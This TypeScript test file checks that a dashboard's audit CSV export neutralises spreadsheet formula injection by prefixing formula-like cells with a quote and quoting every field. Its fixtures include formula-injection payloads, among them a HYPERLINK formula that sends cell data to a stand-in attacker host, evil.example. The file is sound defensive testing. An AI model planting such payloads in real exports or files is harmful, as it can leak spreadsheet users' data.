import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CANARIES } from "../canary";
import { addUser, apiAs, control, jsonRequest, resetSimulator, seenResponses, signedInCookie } from "./helpers";

// GET /api/audit/export is safe to open in a spreadsheet whatever the people and the provider wrote:
// descriptions (and server names, and error messages) that start like a formula are behind a `'`,
// and every field is quoted, so importing the file with `;` or TAB as the delimiter cannot cut a
// value into a new cell that starts with `=`. The rows come from real backups, created through the
// dashboard against the simulator.

const descriptions = [
  'x;=HYPERLINK("http://evil.example/?"&A1,"click")',
  "x;=1+1",
  "x\t=1+1",
  "x,=1+1",
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  " =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  "\uFEFF=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
];

/** The leading characters a spreadsheet would run, or skip to run what follows. */
const formulaLike = /^[=+\-@＝＋－＠\s\0\uFEFF]/u;

/** Reads CSV back (RFC 4180 quoting) with any delimiter, as a spreadsheet's import would. */
function parseCsv(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === delimiter) {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

const hostileServerNames = ['=HYPERLINK("http://evil.example","srv")', "srv;=1+1"];

let operatorEmail: string;
let csv: string;

beforeAll(async () => {
  await resetSimulator();
  const servers = [];
  for (const name of hostileServerNames) servers.push((await control("servers", { name })) as { id: number });
  const user = await addUser("operator", undefined, "exporter");
  operatorEmail = user.email;
  const operator = { cookie: await signedInCookie(user.email, user.password) };
  for (const [index, description] of descriptions.entries()) {
    const server = servers[index % servers.length]!;
    const result = await apiAs(operator, "/api/backups", jsonRequest("POST", { server_id: server.id, description }));
    expect(result.status, result.text).toBe(201);
  }
  const exported = await apiAs(
    "viewer",
    `/api/audit/export?action=backup.create&actor=${encodeURIComponent(operatorEmail)}`,
  );
  expect(exported.status, exported.text).toBe(200);
  expect(exported.headers.get("content-type")).toMatch(/^text\/csv/);
  csv = exported.text;
});

afterAll(async () => {
  await resetSimulator();
  for (const response of seenResponses)
    for (const canary of CANARIES) expect(response.body + response.headers).not.toContain(canary);
});

describe("GET /api/audit/export", () => {
  it("reads back cell for cell, each formula-like description and server name behind a quote", () => {
    const [header, ...rows] = parseCsv(csv, ",");
    const column = (name: string) => header!.indexOf(name);
    expect(rows).toHaveLength(descriptions.length * 2); // the attempt and the success of each
    for (const description of descriptions) {
      // The store writes U+FFFD for U+0000 (lib/db/nul-free-text.ts), which a spreadsheet does not run.
      const stored = description.replaceAll("\u0000", "\uFFFD");
      const expected = formulaLike.test(stored) ? `'${stored}` : stored;
      const cells = rows.map((row) => row[column("description")]);
      expect(
        cells.filter((cell) => cell === expected),
        JSON.stringify(description),
      ).toHaveLength(2);
    }
    const names = new Set(rows.map((row) => row[column("server_name")]).filter(Boolean));
    expect(names).toEqual(new Set([`'${hostileServerNames[0]}`, hostileServerNames[1]]));
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      for (const cell of row) expect(formulaLike.test(cell), JSON.stringify(cell)).toBe(false);
    }
  });

  it.each([";", "\t"])("is not cut into new cells when imported with %j as the delimiter", (delimiter) => {
    const rows = parseCsv(csv, delimiter);
    expect(rows).toHaveLength(descriptions.length * 2 + 1);
    for (const row of rows.slice(1)) {
      expect(row, JSON.stringify(row)).toHaveLength(1);
      expect(formulaLike.test(row[0]!)).toBe(false);
    }
  });

  it("quotes every field of every entry", () => {
    const [, ...rows] = parseCsv(csv, ",");
    const body = csv.slice(csv.indexOf("\r\n") + 2);
    const requoted = rows.map((row) => `${row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(",")}\r\n`).join("");
    expect(body).toBe(requoted);
  });
});
